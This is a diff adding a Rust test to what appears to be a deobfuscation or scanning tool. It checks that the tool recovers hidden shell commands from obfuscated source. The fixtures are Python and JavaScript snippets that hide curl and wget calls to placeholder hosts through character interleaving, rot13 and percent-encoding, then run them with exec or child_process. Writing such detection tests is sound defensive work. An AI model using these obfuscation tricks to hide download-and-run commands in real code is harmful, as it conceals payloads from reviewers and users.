@@ -223,6 +223,22 @@ proptest! {
 }
 
 #[test]
+fn interleaving_rot13_and_percent_escapes() {
+    // Every other character, then reversed halves.
+    let plain = "curl -s http://203.0.113.9/a";
+    let mixed: String = plain.chars().zip("xyzwq".chars().cycle()).flat_map(|(a, b)| [a, b]).collect();
+    let src = format!("s = '{mixed}'\ncmd = s[::2]\nexec(cmd)\n");
+    let src = src.as_str();
+    assert!(texts(src, Lang::Python).iter().any(|t| t == plain), "{:?}", texts(src, Lang::Python));
+    let src =
+        "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"jtrg uggc://k.rknzcyr.vainyvq/c\")', 'rot_13'))\n";
+    assert!(texts(src, Lang::Python).iter().any(|t| t.contains("os.system(\"wget http")));
+    let src =
+        "const c = decodeURIComponent('%63%75%72%6c%20%68%74%74%70%3a%2f%2f%78');\nrequire('child_process').exec(c);\n";
+    assert!(texts(src, Lang::Javascript).iter().any(|t| t == "curl http://x"));
+}
+
+#[test]
 fn long_concatenations_are_one_node() {
     let src = format!("x = 'c' + 'u' + 'r' + 'l' + ' ' + 'h' + 't' + 't' + 'p'{}\nexec(x)\n", " + 'a'".repeat(5_000));
     assert!(texts(&src, Lang::Python).iter().any(|t| t.starts_with("curl http")));
